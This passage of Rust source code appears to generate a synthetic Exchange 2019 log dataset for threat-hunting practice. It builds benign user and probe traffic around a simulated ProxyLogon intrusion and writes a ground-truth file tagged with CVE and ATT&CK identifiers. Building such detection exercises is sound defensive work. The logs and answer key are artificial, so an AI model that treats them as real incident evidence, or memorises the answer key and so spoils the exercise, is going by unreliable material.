//! `case`: a HAFNIUM-style ProxyLogon intrusion (2021-03-01 .. 03-03) on top of six days of
//! benign traffic on EXCH01 (Exchange 2019 CU8, 15.2.792.3), with its ground truth.

use std::path::Path;

use anyhow::Result;
use rand::{Rng, RngCore, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde::Serialize;
use serde_json::{Map, Value, json};

use crate::data::*;
use crate::files;
use crate::fmt::*;
use crate::store::{Draft, Ev, EvKey, Header, RowKey, Step, Store};

pub const EX: &str = "C/Program Files/Microsoft/Exchange Server/V15";
const EXW: &str = r"C:\Program Files\Microsoft\Exchange Server\V15";

const HP_HEADER: Header = Header::Exchange {
    version: LOG_VERSION,
    log_type: "HttpProxy Logs",
    fields: HP_FIELDS,
};
const ECP_HEADER: Header = Header::Exchange {
    version: "15.0.0.0",
    log_type: "ECP Server Log",
    fields: "TimeStamp,ServerName,EventId,EventData",
};
/// The OAB generator log's container format is undocumented (reference §3.6: message verified,
/// container unverified). We write it as an Exchange CSV log with `DateTime,Level,Message`.
const OAB_HEADER: Header = Header::Exchange {
    version: LOG_VERSION,
    log_type: "OAB Generator Log",
    fields: "DateTime,Level,Message",
};
/// EWS log columns, copied from the `Ews_2023010616-1.LOG` fixture (92 columns).
pub const EWS_FIELDS: &str = "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,Ring,ClientRequestId,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,UserAgent,VersionInfo,ClientIpAddress,ServerHostName,FrontEndServer,SoapAction,HttpStatus,RequestSize,ResponseSize,ErrorCode,ImpersonatedUser,ProxyAsUser,ActAsUser,Cookie,CorrelationGuid,PrimaryOrProxyServer,TaskType,RemoteBackendCount,LocalMailboxCount,RemoteMailboxCount,LocalIdCount,RemoteIdCount,BeginBudgetConnections,EndBudgetConnections,BeginBudgetHangingConnections,EndBudgetHangingConnections,BeginBudgetAD,EndBudgetAD,BeginBudgetCAS,EndBudgetCAS,BeginBudgetRPC,EndBudgetRPC,BeginBudgetFindCount,EndBudgetFindCount,BeginBudgetSubscriptions,EndBudgetSubscriptions,MDBResource,MDBHealth,MDBHistoricalLoad,ThrottlingPolicy,ThrottlingDelay,ThrottlingRequestType,TotalDCRequestCount,TotalDCRequestLatency,TotalMBXRequestCount,TotalMBXRequestLatency,RecipientLookupLatency,ExchangePrincipalLatency,HttpPipelineLatency,CheckAccessCoreLatency,AuthModuleLatency,CallContextInitLatency,PreExecutionLatency,CoreExecutionLatency,TotalRequestTime,DetailedExchangePrincipalLatency,ClientStatistics,GenericInfo,AuthenticationErrors,GenericErrors,Puid,StartTime,ProcessId,TimeInGC,StartTotalMemory,EndTotalMemory,StartGCCounts,EndGCCounts,TokenBasedThrottlingPolicy,BudgetKey,CoinsCharged,CoinsChargedMethod,SidBudgetInfo,AppBudgetInfo,TenantBudgetInfo,ResourceAccessed,ResourceHealthBasedThreshold,ThrottledBy,BackoffHint,WorkClassification";
const EWS_HEADER: Header = Header::Exchange {
    version: LOG_VERSION,
    log_type: "EWS Logs",
    fields: EWS_FIELDS,
};
/// Message tracking columns (reference §3.9 and the `MSGTRKMS` fixture, 30 columns).
pub const MT_FIELDS: &str = "date-time,client-ip,client-hostname,server-ip,server-hostname,source-context,connector-id,source,event-id,internal-message-id,message-id,network-message-id,recipient-address,recipient-status,total-bytes,recipient-count,related-recipient-address,reference,message-subject,sender-address,return-path,message-info,directionality,tenant-id,original-client-ip,original-server-ip,custom-data,transport-traffic-type,log-id,schema-version";
const MT_HEADER: Header = Header::Exchange {
    version: LOG_VERSION,
    log_type: "Message Tracking Log",
    fields: MT_FIELDS,
};

const CH_APP: (&str, &str, u64) = ("EventLogs/Application.jsonl", "Application", 48_213);
const CH_MGMT: (&str, &str, u64) = (
    "EventLogs/MSExchange Management.jsonl",
    "MSExchange Management",
    9_125,
);
const CH_SYSMON: (&str, &str, u64) = (
    "EventLogs/Microsoft-Windows-Sysmon%4Operational.jsonl",
    "Microsoft-Windows-Sysmon/Operational",
    731_542,
);
/// Sysmon's ETW provider GUID (public, from the Sysmon manifest).
const SYSMON_GUID: &str = "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}";

const T_CVE55: &[&str] = &["cve.2021-26855", "attack.t1190"];
const T_PROBE: &[&str] = &["cve.2021-26855", "attack.t1595", "attack.reconnaissance"];
const T_CVE65: &[&str] = &["cve.2021-27065", "attack.t1190"];
const T_CVE58: &[&str] = &["cve.2021-26858"];
const T_CVE57: &[&str] = &["cve.2021-26857"];
const T_SHELL: &[&str] = &["attack.t1505.003"];
const T_SHELL_CMD: &[&str] = &["attack.t1505.003", "attack.t1059.003"];
const T_LSASS: &[&str] = &["attack.t1003.001"];
const T_ARCHIVE: &[&str] = &["attack.t1560.001"];
const T_MAIL: &[&str] = &["attack.t1114.001", "attack.t1114"];
const T_SWEEP: &[&str] = &["attack.t1595.003", "attack.t1505.003"];

#[derive(Clone)]
struct User {
    sam: String,
    upn: String,
    display: String,
    sid: String,
    mbx: String,
    ip: String,
    home_ip: String,
    owa: bool,
    mobile: Option<(usize, String)>,
}

/// Request as seen by the front end: one HttpProxy row (when `proto` is set), one W3SVC1 line,
/// and for proxied requests one W3SVC2 line.
#[derive(Default, Clone)]
struct Req {
    t: i64,
    proto: &'static str,
    method: &'static str,
    stem: String,
    query: String,
    auth_type: &'static str,
    user: String,
    anchor: String,
    ua: String,
    c_ip: String,
    url_host: String,
    status: u16,
    action: String,
    client_req_id: String,
    total: u32,
    req_bytes: u32,
    resp_bytes: u32,
    gi_extra: String,
    referer: String,
    /// Front end appends `&CorrelationID=<empty>;&cafeReqId=` (Exchange vdirs).
    cafe: bool,
    be: Option<Be>,
}

#[derive(Default, Clone)]
struct Be {
    target: String,
    target_version: String,
    routing_type: &'static str,
    hint: String,
    cookie: String,
    fe_auth: String,
    status: u16,
    routing_db: String,
    /// Back-end IIS line (stem, query, user); `None` = the front end answered itself.
    iis: Option<(String, String, String)>,
}

struct Emitted {
    hp: Option<RowKey>,
    fe: RowKey,
    be: Option<RowKey>,
}

#[derive(Clone)]
struct Proc {
    guid: String,
    pid: u32,
    image: String,
    cmd: String,
}

pub struct Truth {
    pub steps: Vec<Step>,
    pub attack_from: i64,
    pub attack_to: i64,
}

#[derive(Serialize)]
struct TruthFile<'a> {
    case: &'a str,
    seed: u64,
    generator: &'a str,
    host: &'a str,
    build: &'a str,
    benign_days: Vec<&'a str>,
    attack_window: Window,
    attacker_ips: Vec<&'a str>,
    steps: Vec<Step>,
}

#[derive(Serialize)]
struct Window {
    from: String,
    to: String,
}

pub struct Gen {
    rng: ChaCha8Rng,
    st: Store,
    users: Vec<User>,
    admin: User,
    attack_from: i64,
    attack_to: i64,
    w3wp_owa: Proc,
    w3wp_ecp: Proc,
    w3wp_default: Proc,
    shell1: String,
    t_shell1: i64,
    planted: Vec<(String, Vec<u8>, Draft)>,
}

fn rand_letters(rng: &mut ChaCha8Rng, n: usize, alphabet: &[u8]) -> String {
    (0..n)
        .map(|_| alphabet[rng.random_range(0..alphabet.len())] as char)
        .collect()
}
const LOWER: &[u8] = b"abcdefghijklmnopqrstuvwxyz";
const MIXED: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";
const UPPER: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ";
const CANARY: &[u8] = b"abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_-";

/// Generate the case into `out` and its truth into `truth_path`.
pub fn generate(seed: u64, out: &Path, truth_path: &Path) -> Result<Truth> {
    let mut g = Gen::new(seed);
    let day0 = civil_to_days(2021, 2, 26);
    for d in 0..6 {
        g.benign_day(day0 + d);
    }
    g.attack_probe();
    g.attack_exploit();
    g.attack_post();
    g.attack_sweep();
    files::static_files(&mut g.st);
    let (from, to) = (g.attack_from, g.attack_to);
    let planted = g.planted_files();
    let mut st = g.st;
    for (path, data, draft) in planted {
        st.blob(path.clone(), data);
        st.mark_blob(&path, draft);
    }
    let steps = st.write(out)?;
    let name = out
        .file_name()
        .and_then(|s| s.to_str())
        .unwrap_or("case")
        .to_string();
    let tf = TruthFile {
        case: &name,
        seed,
        generator: "exhunt-samplegen case",
        host: FQDN,
        build: "15.2.792.3",
        benign_days: vec!["2021-02-26", "2021-02-27", "2021-02-28"],
        attack_window: Window {
            from: iso_ms(from),
            to: iso_ms(to),
        },
        attacker_ips: ATTACKER_IPS.to_vec(),
        steps,
    };
    let mut text = serde_json::to_string_pretty(&tf)?;
    text.push('\n');
    if let Some(dir) = truth_path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    std::fs::write(truth_path, text)?;
    Ok(Truth {
        steps: tf.steps,
        attack_from: from,
        attack_to: to,
    })
}

impl Gen {
    fn new(seed: u64) -> Gen {
        let mut rng = ChaCha8Rng::seed_from_u64(seed);
        let mut users = Vec::new();
        for (i, (f, l)) in FIRST_NAMES.iter().zip(LAST_NAMES.iter()).enumerate() {
            let display = format!("{}{} {}", f[..1].to_uppercase(), &f[1..], l);
            let mobile = if rng.random_bool(0.45) {
                Some((
                    rng.random_range(0..UA_MOBILE.len()),
                    hex_n(rng.random::<u128>(), 32).to_uppercase(),
                ))
            } else {
                None
            };
            users.push(User {
                sam: f.to_string(),
                upn: format!("{f}@contoso.com"),
                display,
                sid: format!("{DOMAIN_SID}-{}", 1104 + i),
                mbx: guid(v4(rng.random())),
                ip: format!("10.10.20.{}", 31 + i * 3),
                // RFC 5737 documentation ranges stand in for home/ISP addresses.
                home_ip: format!(
                    "{}.{}",
                    ["192.0.2", "198.51.100", "203.0.113"][i % 3],
                    10 + rng.random_range(0..200)
                ),
                owa: rng.random_bool(0.35),
                mobile,
            });
        }
        let admin = User {
            sam: "exadmin".into(),
            upn: "exadmin@contoso.com".into(),
            display: "Exchange Admin".into(),
            sid: format!("{DOMAIN_SID}-1103"),
            mbx: guid(v4(rng.random())),
            ip: "10.10.20.250".into(),
            home_ip: String::new(),
            owa: false,
            mobile: None,
        };
        let mut mk = |pool: &str, pid: u32| Proc {
            guid: format!("{{{}}}", guid(rng.random())),
            pid,
            image: r"c:\windows\system32\inetsrv\w3wp.exe".into(),
            cmd: format!(
                r#"c:\windows\system32\inetsrv\w3wp.exe -ap "{pool}" -v "v4.0" -c "{EXW}\bin\GenericAppPoolConfigWithGCServerEnabledFalse.config" -a \\.\pipe\iisipm{} -h "C:\inetpub\temp\apppools\{pool}\{pool}.config" -w "" -m 0"#,
                guid(rng.random())
            ),
        };
        let w3wp_owa = mk("MSExchangeOWAAppPool", 5316);
        let w3wp_ecp = mk("MSExchangeECPAppPool", 6120);
        let mut w3wp_default = mk("DefaultAppPool", 7724);
        w3wp_default.cmd = format!(
            r#"c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -a \\.\pipe\iisipm{} -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config" -w "" -m 0 -t 20 -ta 0"#,
            guid(rng.random())
        );
        Gen {
            rng,
            st: Store::default(),
            users,
            admin,
            attack_from: i64::MAX,
            attack_to: i64::MIN,
            w3wp_owa,
            w3wp_ecp,
            w3wp_default,
            shell1: String::new(),
            t_shell1: 0,
            planted: Vec::new(),
        }
    }

    fn jitter(&mut self, max_ms: i64) -> i64 {
        self.rng.random_range(0..max_ms.max(1))
    }

    fn span(&mut self, t: i64) {
        self.attack_from = self.attack_from.min(t);
        self.attack_to = self.attack_to.max(t);
    }

    fn canary(&mut self) -> String {
        let mut s = rand_letters(&mut self.rng, 43, CANARY);
        s.push('.');
        s
    }

    // ---------------------------------------------------------------- requests

    fn emit(&mut self, r: &Req) -> Emitted {
        let req_id = v4(self.rng.random());
        let total = r.total.max(1);
        let mut hp = None;
        if !r.proto.is_empty() {
            let ua = hp_ua(&r.ua);
            let be = r.be.as_ref();
            let row = HpRow {
                t: r.t,
                request_id: req_id,
                client_request_id: &r.client_req_id,
                protocol: r.proto,
                url_host: &r.url_host,
                url_stem: &r.stem,
                protocol_action: &r.action,
                auth_type: r.auth_type,
                is_auth: !r.user.is_empty(),
                user: &r.user,
                org: "",
                anchor: &r.anchor,
                ua: &ua,
                client_ip: &r.c_ip,
                server: HOST,
                status: r.status,
                error_code: "",
                method: r.method,
                proxy: be.map(|b| HpProxy {
                    target: &b.target,
                    target_version: &b.target_version,
                    routing_type: b.routing_type,
                    routing_hint: &b.hint,
                    backend_cookie: &b.cookie,
                    fe_auth: &b.fe_auth,
                    be_status: b.status,
                    routing_db: &b.routing_db,
                    routing_status: "CafeV1",
                }),
                req_bytes: r.req_bytes,
                resp_bytes: r.resp_bytes,
                total_ms: total,
                url_query: &if r.query.is_empty() {
                    String::new()
                } else {
                    format!("?{}", r.query)
                },
                gi_extra: &r.gi_extra,
                generic_errors: "",
            };
            let mut b = Vec::with_capacity(900);
            write_hp(&mut b, &row);
            let path = format!(
                "{EX}/Logging/HttpProxy/{}/HttpProxy_{}-1.LOG",
                r.proto,
                stamp_hour(r.t)
            );
            hp = Some(
                self.st
                    .row(path, HP_HEADER, r.t, String::from_utf8(b).expect("utf8")),
            );
        }
        let mut b = Vec::with_capacity(400);
        write_iis(
            &mut b,
            &IisRow {
                t: r.t,
                s_ip: SERVER_IP,
                method: r.method,
                stem: &r.stem,
                query: &r.query,
                cafe_req_id: r.cafe.then_some(req_id),
                port: 443,
                user: &r.user,
                c_ip: &r.c_ip,
                ua: &r.ua,
                referer: &r.referer,
                status: r.status,
                substatus: 0,
                win32: 0,
                time_taken: total,
            },
        );
        let fe_path = format!(
            "C/inetpub/logs/LogFiles/W3SVC1/u_ex{}.log",
            stamp_yymmdd(r.t)
        );
        let fe = self.st.row(
            fe_path,
            Header::Iis,
            r.t,
            String::from_utf8(b).expect("utf8"),
        );
        let mut be_key = None;
        if let Some(be) = &r.be
            && let Some((stem, query, user)) = &be.iis
        {
            let bt = r.t - 1 - (total as i64 / 10);
            let mut b = Vec::with_capacity(400);
            write_iis(
                &mut b,
                &IisRow {
                    t: bt,
                    s_ip: SERVER_IP,
                    method: r.method,
                    stem,
                    query,
                    cafe_req_id: None,
                    port: 444,
                    user,
                    c_ip: SERVER_IP,
                    ua: &r.ua,
                    referer: "",
                    status: be.status,
                    substatus: 0,
                    win32: 0,
                    time_taken: total * 8 / 10,
                },
            );
            let be_path = format!(
                "C/inetpub/logs/LogFiles/W3SVC2/u_ex{}.log",
                stamp_yymmdd(bt)
            );
            be_key = Some(self.st.row(
                be_path,
                Header::Iis,
                bt,
                String::from_utf8(b).expect("utf8"),
            ));
        }
        Emitted { hp, fe, be: be_key }
    }

    /// Proxied to the local mailbox role the usual way.
    fn be_user(&mut self, u: &User, hint: &str, stem: &str, query: &str, status: u16) -> Be {
        Be {
            target: FQDN.into(),
            target_version: TARGET_VERSION.into(),
            routing_type: "IntraForest",
            hint: hint.into(),
            cookie: String::new(),
            fe_auth: BE_VERSION.into(),
            status,
            routing_db: format!("|RoutingDB:{DB_GUID}"),
            iis: Some((
                stem.into(),
                if query.is_empty() {
                    String::new()
                } else {
                    query.into()
                },
                format!("{DOMAIN_NB}\\{}", u.sam),
            )),
        }
    }

    fn user_req(
        &mut self,
        u: &User,
        t: i64,
        proto: &'static str,
        method: &'static str,
        stem: &str,
        query: &str,
    ) -> Req {
        Req {
            t,
            proto,
            method,
            stem: stem.into(),
            query: query.into(),
            auth_type: "Negotiate",
            user: format!("{DOMAIN_NB}\\{}", u.sam),
            anchor: format!("Smtp~{}", u.upn),
            ua: UA_OUTLOOK.into(),
            c_ip: u.ip.clone(),
            url_host: PUBLIC_NAME.into(),
            status: 200,
            total: 5 + self.rng.random_range(0..60),
            req_bytes: 200 + self.rng.random_range(0..2000),
            resp_bytes: 300 + self.rng.random_range(0..9000),
            cafe: true,
            ..Default::default()
        }
    }

    // ---------------------------------------------------------------- benign

    fn benign_day(&mut self, day: i64) {
        let t0 = day * MS_DAY;
        let dow = (day + 4).rem_euclid(7); // 0 = Sunday
        let weekend = dow == 0 || dow == 6;
        let users = self.users.clone();
        for u in &users {
            if let Some((m, dev)) = &u.mobile {
                self.mobile_day(u, *m, dev, t0, weekend);
            }
            let active = self.rng.random_bool(if weekend { 0.12 } else { 0.93 });
            if !active {
                continue;
            }
            let start = t0 + 6 * MS_HOUR + 45 * 60_000 + self.jitter(105 * 60_000);
            let end = t0 + 15 * MS_HOUR + 30 * 60_000 + self.jitter(2 * MS_HOUR);
            self.outlook_day(u, start, end);
            if u.owa {
                let s = start + self.jitter(end - start - MS_HOUR);
                self.owa_session(u, s);
            }
            self.mail_day(u, start, end);
        }
        for h in 0..24 {
            self.probes_hour(t0 + h * MS_HOUR);
        }
        for q in 0..96 {
            let t = t0 + q * 15 * 60_000 + self.jitter(20_000);
            self.lb_ping(t, q as usize);
        }
        self.internet_noise(t0);
        if !weekend {
            self.admin_day(t0);
        }
        self.app_events_day(t0);
        self.sysmon_day(t0, weekend);
        self.oab_day(t0, day);
    }

    fn mobile_day(&mut self, u: &User, m: usize, dev: &str, t0: i64, weekend: bool) {
        let (ua, devtype) = UA_MOBILE[m];
        let mut t = t0 + 6 * MS_HOUR + self.jitter(MS_HOUR);
        let end = t0 + 22 * MS_HOUR;
        let step = if weekend { 110 } else { 65 };
        while t < end {
            let ping = self.rng.random_bool(0.6);
            let cmd = if ping { "Ping" } else { "Sync" };
            let mut r = self.user_req(
                u,
                t,
                "Eas",
                "POST",
                "/Microsoft-Server-ActiveSync/default.eas",
                "",
            );
            r.query = format!(
                "Cmd={cmd}&User={}&DeviceId={dev}&DeviceType={devtype}",
                u.sam
            );
            r.auth_type = "Basic";
            r.anchor = format!("Sid~{}", u.sid);
            r.ua = ua.into();
            r.c_ip = u.home_ip.clone();
            r.action = cmd.into();
            if ping {
                r.total = 470_000 + self.rng.random_range(0..10_000);
            }
            let stem = r.stem.clone();
            let q = r.query.clone();
            r.be = Some(self.be_user(
                u,
                "WindowsIdentity-NoDatabase",
                &stem.replace("default.eas", "Proxy/default.eas"),
                &q,
                200,
            ));
            self.emit(&r);
            t += (step as i64 - 15 + self.rng.random_range(0..30)) * 60_000;
        }
    }

    fn outlook_day(&mut self, u: &User, start: i64, end: i64) {
        // Autodiscover, then MAPI connect + NSPI, EWS free/busy, OAB download, hourly MAPI execute.
        let mut r = self.user_req(
            u,
            start,
            "Autodiscover",
            "POST",
            "/autodiscover/autodiscover.xml",
            "",
        );
        r.auth_type = "NTLM";
        r.anchor = format!("Sid~{}", u.sid);
        r.be = Some(self.be_user(
            u,
            "WindowsIdentity",
            "/Autodiscover/Autodiscover.xml",
            "",
            200,
        ));
        self.emit(&r);
        let mbx_q = format!("MailboxId={}@contoso.com", u.mbx);
        let mut t = start + 1500 + self.jitter(2000);
        for (stem, action) in [("/mapi/emsmdb/", "Connect"), ("/mapi/nspi/", "Bind")] {
            let mut r = self.user_req(u, t, "Mapi", "POST", stem, &mbx_q);
            r.ua = UA_OUTLOOK_MAPI.into();
            r.anchor = format!("MailboxGuid~{}", u.mbx);
            r.client_req_id = format!("R:{};RT:{action};", guid(v4(self.rng.random())));
            r.be = Some(self.be_user(u, "MailboxGuidWithDomain", stem, &mbx_q, 200));
            self.emit(&r);
            t += 300 + self.jitter(700);
        }
        if self.rng.random_bool(0.5) {
            let stem = format!("/OAB/{OAB_GUID}/oab.xml");
            let mut r = self.user_req(u, t + 20_000, "Oab", "GET", &stem, "");
            r.be = Some(self.be_user(u, "WindowsIdentity", &stem, "", 200));
            self.emit(&r);
        }
        let mut t = start + 40 * 60_000 + self.jitter(40 * 60_000);
        let mut n = 0;
        while t < end {
            let mut r = self.user_req(u, t, "Mapi", "POST", "/mapi/emsmdb/", &mbx_q);
            r.ua = UA_OUTLOOK_MAPI.into();
            r.anchor = format!("MailboxGuid~{}", u.mbx);
            r.client_req_id = format!("R:{};RT:Execute;", guid(v4(self.rng.random())));
            r.be = Some(self.be_user(u, "MailboxGuidWithDomain", "/mapi/emsmdb/", &mbx_q, 200));
            self.emit(&r);
            if n % 3 == 1 {
                let te = t + 5_000 + self.jitter(60_000);
                let mut r = self.user_req(u, te, "Ews", "POST", "/EWS/Exchange.asmx", "");
                r.action = "GetUserAvailability".into();
                r.be = Some(self.be_user(u, "WindowsIdentity", "/EWS/Exchange.asmx", "", 200));
                self.emit(&r);
                self.ews_backend(
                    te - 3,
                    &format!("{}@contoso.com", u.sam),
                    UA_OUTLOOK,
                    "GetUserAvailability",
                    &u.ip,
                );
            }
            n += 1;
            t += 50 * 60_000 + self.jitter(20 * 60_000);
        }
    }

    fn owa_session(&mut self, u: &User, t: i64) {
        let ua = UA_BROWSERS[self.rng.random_range(0..UA_BROWSERS.len())];
        let ip = if self.rng.random_bool(0.5) {
            u.home_ip.clone()
        } else {
            u.ip.clone()
        };
        let base = |t: i64, method: &'static str, stem: &str| Req {
            t,
            proto: "Owa",
            method,
            stem: stem.into(),
            auth_type: "FBA",
            ua: ua.into(),
            c_ip: ip.clone(),
            url_host: PUBLIC_NAME.into(),
            status: 200,
            total: 3,
            cafe: true,
            ..Default::default()
        };
        // Pre-logon: unauthenticated, no proxying.
        let mut r = base(t, "GET", "/owa/");
        r.status = 302;
        r.gi_extra = "NoCookies=302 - GET/E14AuthPost;".into();
        self.emit(&r);
        let mut r = base(t + 120, "GET", "/owa/auth/logon.aspx");
        r.query = "url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0".into();
        r.anchor = "ServerVersion~Version 15.2 (Build 792.3)".into();
        self.emit(&r);
        let mut r = base(t + 9_000 + self.jitter(8_000), "POST", "/owa/auth.owa");
        r.status = 302;
        r.referer = "https://mail.contoso.com/owa/auth/logon.aspx?url=https%3a%2f%2fmail.contoso.com%2fowa%2f&reason=0".into();
        self.emit(&r);
        let mut t = t + 20_000;
        let user = format!("{DOMAIN_NB}\\{}", u.sam);
        let actions = [
            "GetOwaUserConfiguration",
            "FindFolders",
            "FindConversation",
            "GetConversationItems",
            "GetItem",
            "FindItem",
            "GetItem",
            "UpdateItem",
        ];
        let mut r = base(t, "GET", "/owa/");
        r.user = user.clone();
        r.anchor = format!("Smtp~{}", u.upn);
        r.be = Some(self.be_user(u, "OwaEcpUserContextCookie", "/owa/", "", 200));
        self.emit(&r);
        let n = 3 + self.rng.random_range(0..actions.len());
        for a in actions.iter().take(n) {
            t += 800 + self.jitter(25_000);
            let mut r = base(t, "POST", "/owa/service.svc");
            r.query = format!("action={a}&app=Mail&n={}", self.rng.random_range(1..60));
            r.user = user.clone();
            r.anchor = format!("Smtp~{}", u.upn);
            r.action = a.to_string();
            r.total = 10 + self.rng.random_range(0..120);
            r.referer = "https://mail.contoso.com/owa/".into();
            let q = r.query.clone();
            r.be = Some(self.be_user(u, "OwaEcpUserContextCookie", "/owa/service.svc", &q, 200));
            self.emit(&r);
        }
    }

    fn mail_day(&mut self, u: &User, start: i64, end: i64) {
        let n = 1 + self.rng.random_range(0..4);
        for _ in 0..n {
            let t = start + self.jitter(end - start);
            let rcpt = &self.users[self.rng.random_range(0..self.users.len())]
                .upn
                .clone();
            let msgid = format!("<{}@EXCH01.contoso.local>", hex_n(self.rng.random(), 32));
            let net = guid(v4(self.rng.random()));
            let subj = [
                "Re: weekly sync",
                "Budget Q2",
                "Meeting notes",
                "FW: invoice 4471",
                "Lunch?",
                "Project Falcon status",
            ][self.rng.random_range(0..6)];
            let size = 8_000 + self.rng.random_range(0..300_000);
            let ctx = format!(
                "MDB:{DB_GUID}, Mailbox:{}, Event:{}, MessageClass:IPM.Note, CreationTime:{}, ClientType:MOMT, SubmissionAssistant:MailboxTransportSubmissionEmailAssistant",
                u.mbx,
                self.rng.random_range(1_000_000..9_000_000),
                iso_ms(t - 130)
            );
            let notify = [
                iso_ms(t),
                SERVER_IP.into(),
                HOST.into(),
                String::new(),
                String::new(),
                csv_field(&ctx).into_owned(),
                String::new(),
                "STOREDRIVER".into(),
                "NOTIFYMAPI".into(),
            ];
            let mut row1: Vec<String> = notify.to_vec();
            row1.resize(30, String::new());
            row1[19] = u.upn.clone();
            row1[28] = net.clone();
            row1[29] = "15.02.0792.003".into();
            let mut row2: Vec<String> = vec![String::new(); 30];
            row2[0] = iso_ms(t + 110);
            row2[1] = SERVER_IP.into();
            row2[2] = FQDN.into();
            row2[3] = SERVER_IP.into();
            row2[4] = HOST.into();
            row2[5] = row1[5].clone();
            row2[7] = "STOREDRIVER".into();
            row2[8] = "RECEIVE".into();
            row2[9] = self.rng.random_range(100..9000).to_string();
            row2[10] = msgid;
            row2[11] = net.clone();
            row2[12] = rcpt.clone();
            row2[13] = "To".into();
            row2[14] = size.to_string();
            row2[15] = "1".into();
            row2[18] = subj.into();
            row2[19] = u.upn.clone();
            row2[20] = u.upn.clone();
            row2[21] = "04I: ".into();
            row2[22] = "Originating".into();
            row2[24] = u.ip.clone();
            row2[25] = SERVER_IP.into();
            row2[26] = format!(
                "S:MailboxDatabaseGuid={DB_GUID};S:DeliveryPriority=Normal;S:AccountForest=contoso.local"
            );
            row2[27] = "Email".into();
            row2[28] = net;
            row2[29] = "15.02.0792.003".into();
            let path = format!(
                "{EX}/TransportRoles/Logs/MessageTracking/MSGTRKMS{}-1.LOG",
                stamp_hour(t)
            );
            self.st.row(path.clone(), MT_HEADER, t, row1.join(","));
            let path2 = format!(
                "{EX}/TransportRoles/Logs/MessageTracking/MSGTRKMS{}-1.LOG",
                stamp_hour(t + 110)
            );
            self.st.row(path2, MT_HEADER, t + 110, row2.join(","));
        }
    }

    fn ews_backend(&mut self, t: i64, user: &str, ua: &str, action: &str, ip: &str) {
        let mut cols: Vec<String> = vec![String::new(); 92];
        cols[0] = iso_ms(t);
        cols[1] = guid(v4(self.rng.random()));
        cols[2] = "15".into();
        cols[3] = "2".into();
        cols[4] = "792".into();
        cols[5] = "3".into();
        cols[6] = "Unknown".into();
        cols[8] = "Negotiate".into();
        cols[9] = "true".into();
        cols[10] = user.into();
        cols[11] = "contoso.local".into();
        cols[12] = csv_field(ua).into_owned();
        cols[13] = "Target=None;Req=Exchange2013/Exchange2013;".into();
        cols[14] = ip.into();
        cols[15] = HOST.into();
        cols[16] = FQDN.into();
        cols[17] = action.into();
        cols[18] = "200".into();
        cols[19] = self.rng.random_range(400..2000).to_string();
        cols[20] = self.rng.random_range(500..6000).to_string();
        cols[26] = guid(v4(self.rng.random()));
        cols[27] = "PrimaryServer".into();
        cols[28] = "LocalTask".into();
        cols[66] = self.rng.random_range(5..80).to_string();
        cols[73] = iso_ms(t - 20);
        cols[74] = "9716".into();
        let path = format!("{EX}/Logging/EWS/Ews_{}-1.LOG", stamp_hour(t));
        self.st.row(path, EWS_HEADER, t, cols.join(","));
    }

    fn probes_hour(&mut self, h0: i64) {
        let hm_user = format!("{DOMAIN_NB}\\{HEALTH_MAILBOX}");
        let hm_sid = format!("Sid~{DOMAIN_SID}-1142");
        let probes: [(&'static str, &str); 7] = [
            ("Owa", "/owa/"),
            ("Ecp", "/ecp/"),
            ("Ews", "/ews/"),
            ("Autodiscover", "/autodiscover/"),
            ("Eas", "/Microsoft-Server-ActiveSync/"),
            ("Oab", "/oab/"),
            ("RpcHttp", "/rpc/"),
        ];
        for (i, (proto, stem)) in probes.iter().enumerate() {
            let t = h0 + (i as i64) * 7 * 60_000 + self.jitter(60_000);
            let r = Req {
                t,
                proto,
                method: "GET",
                stem: stem.to_string(),
                auth_type: "Negotiate",
                user: hm_user.clone(),
                anchor: hm_sid.clone(),
                ua: UA_AMPROBE.into(),
                c_ip: if i % 2 == 0 {
                    "127.0.0.1".into()
                } else {
                    "::1".into()
                },
                url_host: "localhost".into(),
                status: 200,
                total: 1 + self.rng.random_range(0..3),
                gi_extra: "ProxyState-Complete=PrepareServerRequest;".into(),
                cafe: true,
                be: Some(Be {
                    target: FQDN.to_lowercase(),
                    target_version: TARGET_VERSION.into(),
                    routing_type: "IntraForest",
                    hint: "WindowsIdentity".into(),
                    fe_auth: BE_VERSION.into(),
                    routing_db: format!("|RoutingDB:{DB_GUID}"),
                    ..Default::default()
                }),
                ..Default::default()
            };
            self.emit(&r);
        }
        // MAPI probe (fixture shape: MapiHttpClient, MailboxGuid anchor), proxied to the back end.
        let t = h0 + 52 * 60_000 + self.jitter(60_000);
        let hm = User {
            sam: HEALTH_MAILBOX.into(),
            upn: format!("{HEALTH_MAILBOX}@contoso.local"),
            display: String::new(),
            sid: format!("{DOMAIN_SID}-1142"),
            mbx: "0b9f37c1-5e6a-4d28-93f4-7a1c2e8d6b05".into(),
            ip: SERVER_IP.into(),
            home_ip: String::new(),
            owa: false,
            mobile: None,
        };
        let q = format!("mailboxId={}@contoso.local", hm.mbx);
        let mut r = self.user_req(&hm, t, "Mapi", "POST", "/mapi/emsmdb/", &q);
        r.ua = "MapiHttpClient".into();
        r.anchor = format!("MailboxGuid~{}", hm.mbx);
        r.url_host = FQDN.into();
        r.be = Some(self.be_user(&hm, "MailboxGuidWithDomain", "/mapi/emsmdb/", &q, 200));
        self.emit(&r);
        // Remote PowerShell probe (fixture shape).
        let t = h0 + 55 * 60_000 + self.jitter(60_000);
        let mut r = self.user_req(&hm, t, "PowerShell", "POST", "/powershell", "");
        r.query = "clientApplication=ActiveMonitor;PSVersion=5.1.17763.1728".into();
        r.auth_type = "Kerberos";
        r.anchor = "ServerVersion~Version 15.2 (Build 791.0)".into();
        r.ua = "Microsoft WinRM Client".into();
        r.action = "New-PSSession:Receive".into();
        r.url_host = FQDN.to_lowercase();
        let mut be = self.be_user(&hm, "ExchClientVer-ServerCookie", "/powershell", "", 200);
        be.iis = Some((
            "/PowerShell/".into(),
            r.query.clone(),
